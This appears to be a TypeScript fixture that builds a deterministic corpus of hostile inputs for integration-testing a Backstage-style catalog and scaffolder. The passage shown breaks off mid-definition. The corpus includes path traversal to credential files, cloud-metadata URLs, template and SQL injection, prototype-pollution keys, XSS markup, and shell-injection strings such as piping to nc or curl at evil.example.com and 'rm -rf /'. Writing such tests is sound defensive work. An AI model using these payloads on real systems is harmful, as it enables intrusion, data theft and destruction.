/*
 * The table of hostile inputs of hostileInputs.integration.test.ts: malformed
 * and adversarial requests to the catalog, the scaffolder (the golden-path
 * template), the scorecard API and the vault:create-namespace action, each
 * with the outcome it must have. Generated, not hand-listed: a corpus of
 * hostile strings is crossed with every field that takes one, plus wrong
 * types, missing fields, huge bodies, deep nesting and malformed YAML. The
 * generation is deterministic (a seeded PRNG, never Math.random), so a
 * failing case has the same id and input on every run.
 *
 * Pure data: no I/O and only this package's runtime dependencies, so the
 * test decides how each case is sent.
 */

/** What a case must produce. */
export type Expectation =
  /** A 4xx with a JSON error message (for HTTP) / an InputError (in process). */
  | { kind: 'reject' }
  /** A 2xx: the input is valid and is handled as data. */
  | { kind: 'accept'; why: string }
  /**
   * A 4xx with a JSON error message, or a 2xx whose result is empty: the
   * value was used as data (a filter) and matched nothing, e.g. an SQL
   * injection string that must not match every row.
   */
  | { kind: 'rejectOrEmpty'; isEmpty: (body: any) => boolean }
  /**
   * A 4xx with a JSON error message or a 2xx, both safe, where which one
   * depends on upstream parsing details (e.g. what parses as a URL).
   */
  | { kind: 'handled'; why: string }
  /**
   * A known problem, upstream or in the template: the allowed statuses (0:
   * the server closed the connection without a complete answer) and why.
   */
  | { kind: 'known'; statuses: number[]; why: string };

export type HttpMethod = 'GET' | 'POST' | 'PUT' | 'DELETE';

/** One request against the backend (all run against one process). */
export type HttpCase = {
  id: string;
  category: string;
  method: HttpMethod;
  /** Below /api, already percent-encoded; sent verbatim (no normalisation). */
  path: string;
  /** JSON body. */
  body?: unknown;
  /** Sent as is instead of a JSON body (malformed JSON, deep nesting, ...). */
  rawBody?: string;
  contentType?: string;
  /**
   * POST /scaffolder/v2/dry-run of the golden-path template (the test adds
   * the template and its skeleton) with these values.
   */
  goldenPathDryRun?: Record<string, unknown>;
  /**
   * POST /scaffolder/v2/dry-run of a one-step template running
   * vault:create-namespace with these inputs.
   */
  vaultDryRun?: { namespaceName: unknown; teamName: unknown };
  expect: Expectation;
  /** Text the answer must not contain (e.g. a file that must not be read). */
  mustNotContain?: string[];
};

/**
 * A real scaffolder task of the golden-path template whose input passes the
 * parameter schema and must be refused by an action before any step with a
 * side effect runs: the task fails with a clear message.
 */
export type TaskCase = {
  id: string;
  category: string;
  values: Record<string, unknown>;
  /** The failing step and a pattern of its error. */
  failsAt: string;
  message: RegExp;
};

/**
 * A catalog file served by the sandbox's GitHub, registered as a url
 * location: as a dry run (answer at once) or for real (the processing error
 * must show through the API).
 */
export type LocationFileCase = {
  id: string;
  category: string;
  file: string;
  content: string;
  mode: 'dry-run' | 'register';
  /** dry-run: reject or accept; register: the error must match. */
  expect: Expectation;
  processingError?: RegExp;
};

/** vault:create-namespace called in process, not as a dry run. */
export type VaultActionCase = {
  id: string;
  category: string;
  input: { namespaceName: unknown; teamName: unknown };
  expect: Expectation;
};

export type HostileTable = {
  http: HttpCase[];
  tasks: TaskCase[];
  locationFiles: LocationFileCase[];
  vaultActions: VaultActionCase[];
};

/** mulberry32: a small, fast, seeded PRNG. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export type HostileString = { label: string; value: string };

const MB = 1024 * 1024;

let huge: HostileString[] | undefined;

/** 1, 2 and 3 MB strings (built once; the cases share them). */
export function hugeStrings(): HostileString[] {
  huge ??= [1, 2, 3].map(n => ({
    label: `huge-${n}mb`,
    value: 'A'.repeat(n * MB),
  }));
  return huge;
}

/**
 * The corpus: path traversal, template expressions, shell and SQL
 * injection, odd Unicode, prototype keys, markup, special values and
 * lengths, plus seeded random strings of hostile code points.
 */
export function hostileStrings(seed = 11): HostileString[] {
  const fixed: HostileString[] = [
    // path traversal and locations
    { label: 'dot-dot-slash', value: '../etc/passwd' },
    { label: 'dot-dot-deep', value: '../../../../../../etc/shadow' },
    { label: 'dot-dot-encoded', value: '..%2F..%2Fetc%2Fpasswd' },
    { label: 'dot-dot-double-encoded', value: '..%252F..%252Fetc' },
    { label: 'dot-dot-backslash', value: '..\\..\\windows\\win.ini' },
    { label: 'dot', value: '.' },
    { label: 'dot-dot', value: '..' },
    { label: 'absolute-path', value: '/etc/passwd' },
    { label: 'file-url', value: 'file:///etc/passwd' },
    { label: 'cloud-metadata-url', value: 'http://169.254.169.254/latest/' },
    { label: 'name-with-traversal', value: 'svc/../../admin' },
    // template expressions (scaffolder Nunjucks, GitHub Actions)
    { label: 'secrets-expression', value: '${{ secrets.backstageToken }}' },
    { label: 'dump-expression', value: '${{ parameters.name | dump }}' },
    { label: 'nunjucks-braces', value: '{{ 7*7 }}' },
    {
      label: 'nunjucks-loop',
      value: '{% for x in range(0, 99999999) %}x{% endfor %}',
    },
    {
      label: 'nunjucks-constructor',
      value: "${{ ''.constructor.constructor('return process')() }}",
    },
    { label: 'github-expression', value: '${{ github.token }}' },
    // shell metacharacters
    { label: 'command-substitution', value: '$(id)' },
    { label: 'backticks', value: '`cat /etc/passwd`' },
    { label: 'semicolon-rm', value: 'x; rm -rf /' },
    { label: 'pipe-netcat', value: 'x | nc evil.example.com 4444' },
    { label: 'and-curl', value: 'x && curl http://evil.example.com/' },
    { label: 'quotes', value: `a'b"c` },
    { label: 'yaml-newline-injection', value: 'x\nowner: group:default/evil' },
    { label: 'crlf-header-injection', value: 'x\r\nX-Injected: 1' },
    { label: 'glob', value: '*' },
    // SQL injection
    { label: 'sql-or', value: "' OR 1=1 --" },
    { label: 'sql-drop', value: '"; DROP TABLE final_entities; --' },
    { label: 'sql-union', value: "x' UNION SELECT password FROM users --" },
    { label: 'sql-like-wildcards', value: '%_%' },
    // odd Unicode
    { label: 'rtl-override', value: 'admin\u202Egpj.exe' },
    { label: 'zero-width-space', value: 'order\u200Bservice' },
    { label: 'zero-width-joiner', value: 'order\u200Dservice' },
    { label: 'byte-order-mark', value: '\uFEFForder-service' },
    { label: 'nul', value: 'order\u0000service' },
    { label: 'nul-only', value: '\u0000' },
    { label: 'lone-high-surrogate', value: 'order\uD800service' },
    { label: 'lone-low-surrogate', value: '\uDC00order' },
    { label: 'emoji', value: '\u{1F680}-service' },
    { label: 'emoji-zwj-sequence', value: '\u{1F469}\u200D\u{1F4BB}' },
    { label: 'homoglyph-cyrillic', value: '\u043Erder-service' },
    { label: 'homoglyph-fullwidth', value: '\uFF4F\uFF52\uFF44\uFF45\uFF52' },
    { label: 'combining-marks', value: `e${'\u0301'.repeat(64)}` },
    { label: 'ansi-escape', value: '\u001b[31mred\u001b[0m' },
    { label: 'bell-backspace', value: 'a\u0007\u0008b' },
    { label: 'dotted-capital-i', value: '\u0130stanbul' },
    { label: 'no-break-space', value: 'order\u00A0service' },
    { label: 'line-separator', value: 'a\u2028b' },
    // prototype pollution keys
    { label: 'proto-key', value: '__proto__' },
    { label: 'constructor-key', value: 'constructor' },
    { label: 'prototype-key', value: 'prototype' },
    { label: 'has-own-property', value: 'hasOwnProperty' },
    // markup
    { label: 'script-tag', value: '<script>alert(1)</script>' },
    // eslint-disable-next-line no-script-url
    { label: 'javascript-url', value: 'javascript:alert(1)' },
    { label: 'img-onerror', value: '<img src=x onerror=alert(1)>' },
    // special values
    { label: 'empty', value: '' },
    { label: 'whitespace', value: '   ' },
    { label: 'format-string', value: '%s%s%s%n' },
    { label: 'null-word', value: 'null' },
    { label: 'undefined-word', value: 'undefined' },
    { label: 'nan-word', value: 'NaN' },
    { label: 'minus-one', value: '-1' },
    { label: 'overflowing-number', value: '1e309' },
    { label: 'mongo-operator', value: '{"$ne":null}' },
    { label: 'yaml-js-tag', value: '!!js/function "f(){}"' },
    { label: 'entity-ref-lookalike', value: 'group:default/platform-team' },
    { label: 'colons-and-slashes', value: ':/:/:' },
    // lengths around the limits
    { label: 'length-64', value: 'a'.repeat(64) },
    { label: 'length-254', value: 'a'.repeat(254) },
    { label: 'length-10k', value: 'b'.repeat(10_000) },
  ];
  return [...fixed, ...randomHostileStrings(seed, 8)];
}

/** Random strings drawn from hostile code points, deterministically. */
function randomHostileStrings(seed: number, count: number): HostileString[] {
  const random = seededRandom(seed);
  const pools = [
    ['\u0000', '\u0001', '\u001b', '\u007f', '\t', '\n', '\r'],
    ['\u202E', '\u202D', '\u200B', '\u200C', '\u200D', '\uFEFF', '\u2028'],
    ['\uD800', '\uDBFF', '\uDC00', '\uDFFF'],
    ['\u{1F680}', '\u{1F4A9}', '\u{10FFFF}', '\u0430', '\u0435', '\u0301'],
    ['.', '/', '\\', '%', '$', '{', '}', '`', "'", '"', ';', '|', '&', '<'],
    ['a', 'b', 'z', '0', '9', '-', '_'],
  ];
  const out: HostileString[] = [];
  for (let i = 0; i < count; i++) {
    const length = 3 + Math.floor(random() * 30);
    let value = '';
    for (let j = 0; j < length; j++) {
      const pool = pools[Math.floor(random() * pools.length)];
      value += pool[Math.floor(random() * pool.length)];
    }
    out.push({ label: `random-${i + 1}`, value });
  }
  return out;
}

// The catalog's naming rules (@backstage/catalog-model's validators), to
// know which strings of the corpus happen to be valid.
const isEntityName = (v: string) =>
  v.length >= 1 &&
  v.length <= 63 &&
  /^([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9]$/.test(v);
const isNamespace = (v: string) =>
  v.length >= 1 && v.length <= 63 && /^[a-z0-9]+(?:-+[a-z0-9]+)*$/.test(v);
const isTag = (v: string) =>
  v.length >= 1 && v.length <= 63 && /^[a-z0-9+#]+(-[a-z0-9+#]+)*$/.test(v);
const isLabelValue = (v: string) => v === '' || isEntityName(v);
const isAnnotationKey = (v: string) => {
  const parts = v.split('/');
  if (parts.length === 1) return isEntityName(v);
  if (parts.length !== 2) return false;
  const [prefix, name] = parts;
  return (
    prefix.length >= 1 &&
    prefix.length <= 253 &&
    prefix.split('.').every(isNamespace) &&
    isEntityName(name)
  );
};
/**
 * @backstage/catalog-model's parseEntityRef, string form: the parts, or
 * undefined where it throws.
 */
function parseRef(
  ref: string,
): { kind?: string; namespace?: string; name: string } | undefined {
  if (!ref) return undefined;
  let colon = ref.indexOf(':');
  const slash = ref.indexOf('/');
  if (slash !== -1 && slash < colon) colon = -1;
  const kind = colon === -1 ? undefined : ref.slice(0, colon);
  const namespace = slash === -1 ? undefined : ref.slice(colon + 1, slash);
  const name = ref.slice(Math.max(colon + 1, slash + 1));
  if (kind === '' || namespace === '' || name === '') return undefined;
  return { kind, namespace, name };
}

/** The golden-path template's `name` parameter. */
const isServiceName = (v: string) =>
  v.length <= 50 && /^[a-z][a-z0-9-]*$/.test(v);
/** vault:create-namespace's rule for both of its inputs. */
const isVaultName = (v: string) =>
  /^[a-z](?:[a-z0-9-]{0,48}[a-z0-9])?$/.test(v);
// eslint-disable-next-line no-control-regex
const hasControl = (v: string) => /[\u0000-\u001F\u007F]/.test(v);
const hasControlExceptLineBreaks = (v: string) =>
  // eslint-disable-next-line no-control-regex
  /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/.test(v);
const hasLoneSurrogate = (v: string) =>
  /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/.test(
    v,
  );

/**
 * What arrives of a value sent in a query string: the query parser decodes
 * with decodeURIComponent and keeps the raw text when that fails, so a
 * value with a lone surrogate (invalid UTF-8) arrives still percent-encoded,
 * as plain ASCII.
 */
const arrivesDecoded = (v: string) => !hasLoneSurrogate(v);

const reject: Expectation = { kind: 'reject' };
const handled = (why: string): Expectation => ({ kind: 'handled', why });
const accept = (why: string): Expectation => ({ kind: 'accept', why });
const known = (statuses: number[], why: string): Expectation => ({
  kind: 'known',
  statuses,
  why,
});

/** A route with an empty path segment matches nothing. */
const BARE_404 =
  'upstream: a path with an empty segment matches no route; the framework answers a bare 404 without a JSON body';

const itemsEmpty = (body: any) =>
  Array.isArray(body?.items) &&
  body.items.every((i: unknown) => i === null || i === undefined);
const arrayEmpty = (body: any) => Array.isArray(body) && body.length === 0;

/**
 * encodeURIComponent, except that a lone surrogate (which it refuses) is
 * sent as the three bytes a careless encoder would produce (WTF-8), as a
 * hostile client may.
 */
function enc(value: string): string {
  let out = '';
  for (const part of value.match(/[\uD800-\uDBFF][\uDC00-\uDFFF]|[\s\S]/g) ??
    []) {
    const code = part.charCodeAt(0);
    if (part.length === 1 && code >= 0xd800 && code <= 0xdfff) {
      out += [
        0xe0 | (code >> 12),
        0x80 | ((code >> 6) & 0x3f),
        0x80 | (code & 0x3f),
      ]
        .map(b => `%${b.toString(16).toUpperCase()}`)
        .join('');
    } else {
      out += encodeURIComponent(part);
    }
  }
  return out;
}

const LOCATION =
  'url:https://github.com/myorg/hostile/blob/main/catalog-info.yaml';
const component = (
  metadata: Record<string, unknown>,
  spec: Record<string, unknown> = {},
) => ({
  apiVersion: 'backstage.io/v1alpha1',
  kind: 'Component',
  metadata: { name: 'hostile-probe', ...metadata },
  spec: {
    type: 'service',
    lifecycle: 'production',
    owner: 'group:default/platform-team',
    ...spec,
  },
});

/** JSON text with `depth` nested arrays or objects where "DEEP" was. */
function deepJson(template: unknown, depth: number, shape: 'array' | 'object') {
  const nested =
    shape === 'array'
      ? `${'['.repeat(depth)}${']'.repeat(depth)}`
      : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
  return JSON.stringify(template).replace('"DEEP"', nested);
}

/** Catalog: POST /catalog/validate-entity. */
function catalogEntityCases(strings: HostileString[]): HttpCase[] {
  const cases: HttpCase[] = [];
  const category = 'catalog: validate-entity';
  const add = (id: string, expect: Expectation, body: unknown) =>
    cases.push({
      id: `catalog/validate/${id}`,
      category,
      method: 'POST',
      path: '/catalog/validate-entity',
      body,
      expect,
    });
  const entity = (e: unknown) => ({ entity: e, location: LOCATION });

  for (const { label, value } of strings) {
    add(
      `name/${label}`,
      isEntityName(value) ? accept('a valid entity name') : reject,
      entity(component({ name: value })),
    );
    add(
      `namespace/${label}`,
      isNamespace(value) ? accept('a valid namespace') : reject,
      entity(component({ namespace: value })),
    );
    add(`kind/${label}`, reject, entity({ ...component({}), kind: value }));
    add(
      `apiVersion/${label}`,
      reject,
      entity({ ...component({}), apiVersion: value }),
    );
    add(
      `tag/${label}`,
      isTag(value) ? accept('a valid tag') : reject,
      entity(component({ tags: [value] })),
    );
    add(
      `label-value/${label}`,
      isLabelValue(value) ? accept('a valid label value') : reject,
      entity(component({ labels: { team: value } })),
    );
    add(
      `annotation-key/${label}`,
      isAnnotationKey(value) ? accept('a valid annotation key') : reject,
      entity(component({ annotations: { [value]: 'x' } })),
    );
    add(
      `description/${label}`,
      accept('free text: stored as data, never interpreted'),
      entity(component({ description: value })),
    );
    add(
      `owner/${label}`,
      ownerExpectation(value),
      entity(component({}, { owner: value })),
    );
    add(`location-ref/${label}`, reject, {
      entity: component({}),
      location: value,
    });
  }

  // wrong types and missing fields
  const wrongTypes: [string, unknown][] = [
    ['number', 42],
    ['boolean', true],
    ['null', null],
    ['array', ['a']],
    ['object', { a: 1 }],
  ];
  for (const [what, v] of wrongTypes) {
    add(`name-type/${what}`, reject, entity(component({ name: v })));
    add(`owner-type/${what}`, reject, entity(component({}, { owner: v })));
    add(
      `lifecycle-type/${what}`,
      reject,
      entity(component({}, { lifecycle: v })),
    );
    add(
      `metadata-type/${what}`,
      reject,
      entity({ ...component({}), metadata: v }),
    );
    add(`entity-type/${what}`, reject, { entity: v, location: LOCATION });
    add(`location-type/${what}`, reject, {
      entity: component({}),
      location: v,
    });
    if (what !== 'null' && what !== 'object') {
      add(`spec-type/${what}`, reject, entity({ ...component({}), spec: v }));
    }
  }
  for (const field of ['apiVersion', 'kind', 'metadata']) {
    const e: Record<string, unknown> = { ...component({}) };
    delete e[field];
    add(`missing/${field}`, reject, entity(e));
  }
  for (const field of ['type', 'lifecycle', 'owner']) {
    const e = component({});
    delete (e.spec as Record<string, unknown>)[field];
    add(`missing/spec.${field}`, reject, entity(e));
  }
  add(
    'missing/metadata.name',
    reject,
    entity({ ...component({}), metadata: {} }),
  );
  add('missing/entity', reject, { location: LOCATION });
  add('missing/location', reject, { entity: component({}) });
  add('empty-body', reject, {});

  // prototype pollution keys, as JSON text so they stay own properties
  const valid = JSON.stringify(component({}));
  const pollute: [string, Expectation, string][] = [
    [
      'proto-in-metadata',
      accept('an unknown metadata key: ignored, never merged into a prototype'),
      valid.replace(
        '"metadata":{',
        '"metadata":{"__proto__":{"isAdmin":true},',
      ),
    ],
    [
      'constructor-prototype-in-metadata',
      accept('an unknown metadata key: kept as data'),
      valid.replace(
        '"metadata":{',
        '"metadata":{"constructor":{"prototype":{"isAdmin":true}},',
      ),
    ],
    [
      'proto-in-spec',
      accept('an unknown spec key: ignored'),
      valid.replace(
        '"spec":{',
        '"spec":{"__proto__":{"owner":"group:default/evil"},',
      ),
    ],
    [
      'proto-annotation-key',
      reject,
      valid.replace(
        '"metadata":{',
        '"metadata":{"annotations":{"__proto__":"x"},',
      ),
    ],
    [
      'proto-labels',
      accept('a __proto__ labels key is dropped, not set as a prototype'),
      valid.replace(
        '"metadata":{',
        '"metadata":{"labels":{"__proto__":{"a":"b"}},',
      ),
    ],
    [
      'proto-replacing-entity',
      reject,
      valid
        .replace(/^\{/, '{"__proto__":{"kind":"Group"},')
        .replace('"kind":"Component",', ''),
    ],
  ];
  for (const [id, expect, entityJson] of pollute) {
    cases.push({
      id: `catalog/validate/${id}`,
      category,
      method: 'POST',
      path: '/catalog/validate-entity',
      rawBody: `{"entity":${entityJson},"location":${JSON.stringify(
        LOCATION,
      )}}`,
      expect,
    });
  }
  cases.push({
    id: 'catalog/validate/proto-body',
    category,
    method: 'POST',
    path: '/catalog/validate-entity',
    rawBody: `{"__proto__":{"entity":{}},"location":${JSON.stringify(
      LOCATION,
    )}}`,
    expect: reject,
  });

  // deeply nested values: handled up to a depth, refused beyond it (not a
  // stack overflow as a 500)
  for (const depth of [1_000, 10_000, 40_000]) {
    for (const shape of ['array', 'object'] as const) {
      cases.push({
        id: `catalog/validate/deep-${shape}-${depth}`,
        category,
        method: 'POST',
        path: '/catalog/validate-entity',
        rawBody: deepJson(
          { entity: component({}, { extra: 'DEEP' }), location: LOCATION },
          depth,
          shape,
        ),
        expect:
          depth <= 1_000
            ? accept('an unknown spec field, nested but within what is handled')
            : reject,
      });
    }
  }

  // huge strings: 1-3 MB names and descriptions
  for (const { label, value } of hugeStrings()) {
    add(`name/${label}`, reject, entity(component({ name: value })));
    add(
      `description/${label}`,
      reject,
      entity(component({ description: value })),
    );
  }

  // malformed bodies
  const malformed: [string, string, string?][] = [
    ['not-json', 'not json'],
    ['truncated-json', '{"entity": {"kind": "Comp'],
    ['trailing-comma', '{"entity": {},}'],
    ['json-string', '"entity"'],
    ['json-number', '12345'],
    ['nul-byte-in-json', '{"entity":\u0000}'],
    ['invalid-utf8-escape', '{"entity":"\\uZZZZ"}'],
    ['text-plain', 'entity=x', 'text/plain'],
    [
      'form-encoded',
      'entity=x&location=y',
      'application/x-www-form-urlencoded',
    ],
    ['xml', '<entity/>', 'application/xml'],
  ];
  for (const [id, rawBody, contentType] of malformed) {
    cases.push({
      id: `catalog/validate/${id}`,
      category,
      method: 'POST',
      path: '/catalog/validate-entity',
      rawBody,
      contentType,
      expect: reject,
    });
  }
  return cases;
}

/**
 * spec.owner: the catalog refuses what is not a reference; our
 * OwnerExistsProcessor refuses at once what cannot name an entity; a
 * well-formed reference to an unknown entity passes validation during the
 * owner grace period (it fails processing once that has passed).
 */
function ownerExpectation(value: string): Expectation {
  const ref = parseRef(value);
  if (!ref) return reject;
  const { kind = 'group', namespace = 'default', name } = ref;
  const canName =
    /^[a-zA-Z][a-z0-9A-Z]*$/.test(kind) &&
    kind.length <= 63 &&
    isNamespace(namespace.toLocaleLowerCase('en-US')) &&
    isEntityName(name);
  return canName
    ? accept(
        'a well-formed reference: validation lets an unknown owner through for the grace period, processing refuses it after',
      )
    : reject;
}

/** A hostile last path segment of a GET route. */
function pathSegmentExpectation(value: string): Expectation {
  if (value === '') return known([404], BARE_404);
  // a NUL: refused by the backend's request guard (src/requestGuard)
  return reject;
}

/** GET /catalog/entities?filter=metadata.name=<value> */
function catalogFilterExpectation(value: string): Expectation {
  // a NUL or other control character: refused by the request guard (400)
  if (hasControl(value) && arrivesDecoded(value)) return reject;
  if (/^[\s\uFEFF]|[\s\uFEFF]$/.test(value) && value.trim() !== '') {
    return known(
      [200],
      'upstream quirk: filter values are trimmed (String.trim removes U+FEFF too), so a padded name finds the entity; read-only, permissions still apply',
    );
  }
  return { kind: 'rejectOrEmpty', isEmpty: arrayEmpty };
}

/** GET /catalog/entities/by-query?fullTextFilterTerm=<value> */
function fullTextExpectation(label: string, value: string): Expectation {
  if (hasControl(value) && arrivesDecoded(value)) return reject;
  if (/sql-(or|drop|union)/.test(label)) {
    return { kind: 'rejectOrEmpty', isEmpty: itemsEmpty };
  }
  if (/^[%_]+$/.test(value)) {
    return known(
      [200],
      'upstream quirk: fullTextFilterTerm goes into LIKE without escaping % and _, so they match anything; read-only, permissions still apply',
    );
  }
  return handled('a substring search: what it matches depends on the catalog');
}

/** Catalog: locations, analyze-location and the read APIs. */
function catalogLocationAndReadCases(strings: HostileString[]): HttpCase[] {
  const cases: HttpCase[] = [];
  const locCategory = 'catalog: locations';
  const readCategory = 'catalog: read APIs';
  for (const { label, value } of strings) {
    // a url location whose target is hostile (dry run: nothing is stored)
    cases.push({
      id: `catalog/locations/target/${label}`,
      category: locCategory,
      method: 'POST',
      path: '/catalog/locations?dryRun=true',
      body: { type: 'url', target: value },
      expect: reject,
    });
    // a hostile path below an allowed host
    cases.push({
      id: `catalog/locations/github-path/${label}`,
      category: locCategory,
      method: 'POST',
      path: '/catalog/locations?dryRun=true',
      body: {
        type: 'url',
        target: `https://github.com/myorg/order-service/blob/main/${value}`,
      },
      expect: reject,
    });
    cases.push({
      id: `catalog/locations/type/${label}`,
      category: locCategory,
      method: 'POST',
      path: '/catalog/locations',
      body: {
        type: value,
        target: 'https://github.com/myorg/x/blob/main/a.yaml',
      },
      expect: reject,
    });
    cases.push({
      id: `catalog/analyze/target/${label}`,
      category: locCategory,
      method: 'POST',
      path: '/catalog/analyze-location',
      body: { location: { type: 'url', target: value } },
      expect: handled(
        'refused, or for a target outside the integrations only a suggested entity named after the URL: nothing is read',
      ),
      mustNotContain: ['root:x:0:0', 'ami-id'],
    });

    // reads: hostile path segments and filter values
    cases.push({
      id: `catalog/read/by-name/${label}`,
      category: readCategory,
      method: 'GET',
      path: `/catalog/entities/by-name/component/default/${enc(value)}`,
      expect: pathSegmentExpectation(value),
    });
    cases.push({
      id: `catalog/read/filter/${label}`,
      category: readCategory,
      method: 'GET',
      path: `/catalog/entities?filter=${enc(`metadata.name=${value}`)}`,
      expect: catalogFilterExpectation(value),
    });
    cases.push({
      id: `catalog/read/full-text/${label}`,
      category: readCategory,
      method: 'GET',
      path: `/catalog/entities/by-query?fullTextFilterTerm=${enc(value)}`,
      expect: fullTextExpectation(label, value),
    });
    cases.push({
      id: `catalog/read/by-refs/${label}`,
      category: readCategory,
      method: 'POST',
      path: '/catalog/entities/by-refs',
      body: { entityRefs: [`component:default/${value}`] },
      // a control character: refused by the request guard (400)
      expect: hasControl(value)
        ? reject
        : { kind: 'rejectOrEmpty', isEmpty: itemsEmpty },
    });
  }
  // location bodies: wrong types, unknown keys, other schemes
  const bodies: [string, unknown][] = [
    ['missing-target', { type: 'url' }],
    ['missing-type', { target: 'https://github.com/myorg/x' }],
    ['number-target', { type: 'url', target: 5 }],
    ['array-target', { type: 'url', target: ['a'] }],
    [
      'extra-key',
      { type: 'url', target: 'https://github.com/myorg/x', rules: [] },
    ],
    ['file-type', { type: 'file', target: '/etc/passwd' }],
    ['file-type-relative', { type: 'file', target: '../../app-config.yaml' }],
    [
      'github-discovery',
      { type: 'github-discovery', target: 'https://github.com/*' },
    ],
    [
      'backend-itself',
      { type: 'url', target: 'http://localhost:7007/api/catalog/entities' },
    ],
    [
      'metadata-service',
      { type: 'url', target: 'http://169.254.169.254/latest/meta-data/' },
    ],
    ['gopher', { type: 'url', target: 'gopher://127.0.0.1:5432/' }],
    [
      'data-url',
      { type: 'url', target: 'data:text/yaml;base64,a2luZDogR3JvdXA=' },
    ],
  ];
  for (const [id, body] of bodies) {
    cases.push({
      id: `catalog/locations/${id}`,
      category: locCategory,
      method: 'POST',
      path: '/catalog/locations?dryRun=true',
      body,
      expect: reject,
    });
  }
  for (const { label, value } of hugeStrings()) {
    cases.push({
      id: `catalog/locations/target/${label}`,
      category: locCategory,
      method: 'POST',
      path: '/catalog/locations?dryRun=true',
      body: { type: 'url', target: `https://github.com/myorg/${value}` },
      expect: reject,
    });
  }
  const sample = strings.filter((s, i) => i % 6 === 0 && s.value !== '');
  for (const { label, value } of sample) {
    cases.push({
      id: `catalog/read/location-by-id/${label}`,
      category: readCategory,
      method: 'GET',
      path: `/catalog/locations/${enc(value)}`,
      // no UUID: 404 from the request guard; a lone surrogate fails URL
      // decoding (400) before the route
      expect: reject,
    });
  }
  // registered for real (not a dry run): refused before anything is stored
  cases.push({
    id: 'catalog/locations/register/empty-target',
    category: locCategory,
    method: 'POST',
    path: '/catalog/locations',
    body: { type: 'url', target: '' },
    expect: known(
      [500],
      'upstream: registering an empty target fails in stringifyLocationRef, after the input checks (500; nothing is stored)',
    ),
  });
  const queries: [string, string, Expectation][] = [
    ['negative-limit', 'limit=-1', reject],
    ['huge-limit', 'limit=99999999999999999999', reject],
    ['nan-offset', 'offset=abc', reject],
    ['garbage-cursor', 'cursor=garbage', reject],
    [
      'base64-json-cursor',
      `cursor=${enc(Buffer.from('{"a":1}').toString('base64'))}`,
      reject,
    ],
    ['order-injection', `orderField=${enc("metadata.name,desc'; --")}`, reject],
    [
      'fields-proto',
      'fields=__proto__',
      accept('an unknown field selects nothing'),
    ],
    ['filter-array', 'filter[a]=b', reject],
  ];
  for (const [id, query, expect] of queries) {
    cases.push({
      id: `catalog/read/query/${id}`,
      category: readCategory,
      method: 'GET',
      path: `/catalog/entities/by-query?${query}`,
      expect,
    });
  }
  return cases;
}

const GOLDEN_PATH = 'template:default/go-microservice-template';
/** Values that pass the golden-path template's schema. */
export const VALID_GOLDEN_PATH_VALUES = {
  name: 'hostile-probe',
  description: 'A probe',
  owner: 'group:default/payments-squad',
  system: 'system:default/payments-system',
  repoUrl: 'github.com?owner=myorg&repo=hostile-probe',
};

/** Scaffolder: the golden-path template's parameters, templateRef, dry runs. */
function scaffolderCases(strings: HostileString[]): {
  http: HttpCase[];
  tasks: TaskCase[];
} {
  const http: HttpCase[] = [];
  const tasks: TaskCase[] = [];
  const category = 'scaffolder: golden-path parameters';
  const task = (id: string, values: unknown, expect: Expectation = reject) =>
    http.push({
      id: `scaffolder/tasks/${id}`,
      category,
      method: 'POST',
      path: '/scaffolder/v2/tasks',
      body: { templateRef: GOLDEN_PATH, values },
      expect,
    });
  const dryRun = (
    id: string,
    values: Record<string, unknown>,
    expect: Expectation,
  ) =>
    http.push({
      id: `scaffolder/dry-run/${id}`,
      category: 'scaffolder: golden-path dry runs',
      method: 'POST',
      path: '/scaffolder/v2/dry-run',
      goldenPathDryRun: values,
      expect,
    });

  for (const { label, value } of strings) {
    if (isServiceName(value)) {
      // passes the schema: never a real task, a dry run shows it is fine
      dryRun(
        `name/${label}`,
        { ...VALID_GOLDEN_PATH_VALUES, name: value },
        accept('a valid service name'),
      );
    } else {
      task(`name/${label}`, { ...VALID_GOLDEN_PATH_VALUES, name: value });
    }
  }
  for (const { label, value } of hugeStrings()) {
    task(`name/${label}`, { ...VALID_GOLDEN_PATH_VALUES, name: value });
  }
  // wrong types and missing fields: refused by the parameter schema
  const wrongTypes: [string, unknown][] = [
    ['number', 42],
    ['boolean', true],
    ['null', null],
    ['array', ['a']],
    ['object', { a: 1 }],
  ];
  for (const field of ['name', 'description', 'owner', 'repoUrl', 'system']) {
    for (const [what, v] of wrongTypes) {
      task(`${field}-type/${what}`, {
        ...VALID_GOLDEN_PATH_VALUES,
        [field]: v,
      });
    }
  }
  for (const field of ['enableDatabase', 'enableCache', 'enableQueue']) {
    for (const v of ['yes', 1, null, [], {}]) {
      task(`${field}-type/${JSON.stringify(v)}`, {
        ...VALID_GOLDEN_PATH_VALUES,
        [field]: v,
      });
    }
  }
  for (const field of ['name', 'description', 'owner', 'repoUrl']) {
    const values: Record<string, unknown> = { ...VALID_GOLDEN_PATH_VALUES };
    delete values[field];
    task(`missing/${field}`, values);
  }
  task('empty-description', { ...VALID_GOLDEN_PATH_VALUES, description: '' });
  task('values-empty', {});
  for (const [what, v] of wrongTypes) {
    if (what !== 'object') task(`values-type/${what}`, v);
  }
  http.push({
    id: 'scaffolder/tasks/secrets-not-strings',
    category,
    method: 'POST',
    path: '/scaffolder/v2/tasks',
    body: {
      templateRef: GOLDEN_PATH,
      values: { name: '../x' },
      secrets: { a: { nested: true } },
    },
    expect: reject,
  });
  // deep nesting in the values
  for (const depth of [1_000, 5_000, 50_000]) {
    http.push({
      id: `scaffolder/tasks/deep-array-${depth}`,
      category,
      method: 'POST',
      path: '/scaffolder/v2/tasks',
      rawBody: deepJson(
        {
          templateRef: GOLDEN_PATH,
          values: { ...VALID_GOLDEN_PATH_VALUES, name: 'DEEP' },
        },
        depth,
        'array',
      ),
      // deeper than 100 levels: refused by the request guard
      expect: reject,
    });
  }

  // templateRef: refused (400/404); some forms throw before the handler's
  // error handling (upstream)
  const refCategory = 'scaffolder: templateRef and task ids';
  for (const { label, value } of strings) {
    http.push({
      id: `scaffolder/templateRef/${label}`,
      category: refCategory,
      method: 'POST',
